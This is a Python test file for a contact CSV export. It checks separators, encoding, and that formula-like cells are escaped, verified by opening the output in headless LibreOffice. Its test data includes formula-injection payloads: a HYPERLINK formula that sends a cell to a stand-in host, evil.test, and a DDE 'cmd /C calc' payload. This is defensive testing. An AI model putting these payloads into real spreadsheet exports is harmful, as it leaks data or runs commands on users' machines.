# pyright: basic
"""A file for a spreadsheet: it opens as it is meant, and nothing in it is run."""

import subprocess
import xml.etree.ElementTree as ElementTree
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest
from asking import Ask, Gateway, Time
from export.downloading import download, table
from mirror.mirroring import mirrored
from programs import program

FORMULAS = (
    *('=HYPERLINK("http://evil.test?"&A1;"x")', "=1+1", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"),
    *("\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1", "\uff0b1", "+49=1+1", '=1+1";=2+2', "+A1"),
)
PLAIN = (
    'Müller & Söhne; "Groß"',
    "00123",
    "+49 221 1234-567",
    "+33 (0)4.72/15",
    "O'Neil",
    "2026-05-01",
    " =1",
    "5%",
    "Ö, Ä",
    "zwei\nZeilen",
)
FIELDS = "customerNumber,companyName,phone,createdAt,rating"


@pytest.fixture
def ask(gateway: Gateway, time: Time) -> Ask:
    """Make a gateway that mirrors."""
    return mirrored(gateway, time, requests_per_hour=100_000)


async def contacts(ask: Ask, texts, **given):
    """Return the answer to an export of as many contacts as there are texts: each is a company's name."""
    found = list(ask.sandbox.tables.contacts)[: len(texts)]
    for number, (row, text) in enumerate(zip(found, texts, strict=True)):
        odd = {"customer_number": f"00{number:03}", "phone": f"+4922112345{number:02}", "rating": 5}
        ask.sandbox.tables.contacts.put(replace(row, company_name=text, **odd))
    numbers = [f"00{number:03}" for number in range(len(texts))]
    wanted = {"filter": {"customerNumbers": numbers}, "orderBy": {"field": "ID"}, "fields": FIELDS}
    return await download(ask, "contacts.csv", **wanted, **given)


@pytest.mark.parametrize(
    ("language", "separator"),
    [("de", ";"), ("de-AT", ";"), ("fr", ";"), ("en", ","), ("en-GB", ","), (None, ",")],
)
async def test_separators(ask: Ask, language: str | None, separator: str) -> None:
    """That of the language; a mark says that it is UTF-8, and texts are quoted."""
    given = {"language": language} if language else {}
    answer = await contacts(ask, PLAIN, **{"for": "spreadsheet"}, **given)
    assert answer.content.startswith(b"\xef\xbb\xbf")
    assert [row[1] for row in table(answer, separator)[1:]] == [*PLAIN]
    first = answer.text.removeprefix("\ufeff").split("\r\n")[1]
    assert first.startswith(
        f'"00000"{separator}"Müller & Söhne; ""Groß"""{separator}"+492211234500"{separator}"20'
    )
    assert first.endswith(f'"{separator}5')


async def test_formulas_are_texts(ask: Ask) -> None:
    """An apostrophe stands before each, also where it begins with a sign that programs pass over."""
    rows = table(await contacts(ask, FORMULAS, **{"for": "spreadsheet"}))[1:]
    assert [row[1] for row in rows] == [f"'{text}" for text in FORMULAS]


async def test_programs_get_values_as_they_are(ask: Ask) -> None:
    """Without `for=spreadsheet` nothing is added to a text."""
    answer = await contacts(ask, [*FORMULAS, *PLAIN])
    assert not answer.content.startswith(b"\xef\xbb\xbf")
    assert [row[1] for row in table(answer)[1:]] == [*FORMULAS, *PLAIN]


@pytest.fixture(scope="module")
def opened(tmp_path_factory: pytest.TempPathFactory) -> Callable[[bytes, str], list[list[tuple[str, str]]]]:
    """Open a file in LibreOffice as its import is told, and return its cells: each one's formula and what it shows."""
    office, folder = program("soffice"), tmp_path_factory.mktemp("office")

    def cells(file: bytes, options: str) -> list[list[tuple[str, str]]]:
        (folder / "export.csv").write_bytes(file)
        own = f"-env:UserInstallation={(folder / 'profile').as_uri()}"
        how = [f"--infilter=CSV:{options}", "--convert-to", "fods", "--outdir", str(folder)]
        subprocess.run(  # noqa: S603
            [office, own, "--headless", *how, str(folder / "export.csv")],
            check=True,
            capture_output=True,
            timeout=120,
        )
        return _cells(folder / "export.fods")

    return cells


def _cells(file: Path) -> list[list[tuple[str, str]]]:
    table, text = (
        "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}",
        "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}",
    )
    found = []
    for row in ElementTree.parse(file).iter(f"{table}table-row"):  # noqa: S314 - LibreOffice wrote it
        cells = [
            (cell.get(f"{table}formula", ""), "\n".join("".join(p.itertext()) for p in cell.iter(f"{text}p")))
            for cell in row.iter(f"{table}table-cell")
        ]
        found.append(cells)
    return [row for row in found if any(shown for _, shown in row)]


QUOTED_ARE_TEXTS, GUESSING = "true,false", "false,true"
"""Whether quoted fields are texts, and whether numbers and dates are guessed: the boxes of LibreOffice's dialog."""


@pytest.mark.parametrize(("language", "sign"), [("de", ord(";")), ("en", ord(","))])
async def test_libreoffice_shows_all_as_it_is(ask: Ask, opened, language: str, sign: int) -> None:
    """Umlauts, leading zeros, telephone numbers and dates, with "quoted fields as text": numbers stay numbers."""
    texts = [text for text in PLAIN if "\n" not in text]
    answer = await contacts(ask, texts, **{"for": "spreadsheet", "language": language})
    [head, *rows] = opened(answer.content, f"{sign},34,76,1,,0,{QUOTED_ARE_TEXTS}")
    assert [shown for _, shown in head] == FIELDS.split(",")
    lines = table(answer, chr(sign))[1:]
    assert [[shown for _, shown in row] for row in rows] == [
        [cell.strip() for cell in line] for line in lines
    ]
    assert rows[0][0] == ("", "00000")
    assert rows[0][2] == ("", "+492211234500")


@pytest.mark.parametrize(
    "options", [QUOTED_ARE_TEXTS, GUESSING, "false,false", "false,false,false,false,false,-1,true"]
)
async def test_libreoffice_runs_no_formula(ask: Ask, opened, options: str) -> None:
    """However it is opened."""
    answer = await contacts(ask, FORMULAS, **{"for": "spreadsheet", "language": "de"})
    rows = opened(answer.content, f"59,34,76,1,,0,{options}")
    assert len(rows) == 1 + len(FORMULAS)
    assert [cell for row in rows for cell in row if cell[0]] == []


async def test_libreoffice_would_run_those_of_the_file_for_programs(ask: Ask, opened) -> None:
    """So that the tests above see one that is run."""
    answer = await contacts(ask, FORMULAS)
    rows = opened(answer.content, "44,34,76,1,,0,false,true")
    assert [cell for row in rows for cell in row if cell[0]] != []
